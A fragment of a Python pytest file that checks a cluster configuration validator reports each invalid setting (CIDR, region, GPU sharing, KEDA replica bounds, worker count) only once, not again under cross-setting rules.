        ({"adminCidr": "0.0.0.0/0", "allowOpenIngress": "yes"}, ["allowOpenIngress"]),
        ({"region": "nowhere", "availabilityZone": "nowhere-a"}, ["region"]),
        ({"availabilityZone": "AKIAIOSFODNN7EXAMPLE"}, ["availabilityZone"]),
        ({"aiGuaranteedGpus": "0", "aiBorrowsHpcGpus": "maybe"}, ["aiBorrowsHpcGpus"]),
        ({"hpcBorrowsAiGpus": "yes", "kedaMaxReplicas": "4"}, ["hpcBorrowsAiGpus"]),
        ({"kedaMinReplicas": "x", "kedaMaxReplicas": "1"}, ["kedaMinReplicas"]),
        ({"kedaMaxReplicas": "x", "kedaMinReplicas": "2"}, ["kedaMaxReplicas"]),
        ({"workerCount": "x", "aiGuaranteedGpus": "9"}, ["workerCount"]),
    ],
)
def test_a_setting_refused_on_its_own_is_not_refused_again_by_a_rule_between_settings(values, refused):
    assert [p.split(": ")[0] for p in _problems(values)] == refused
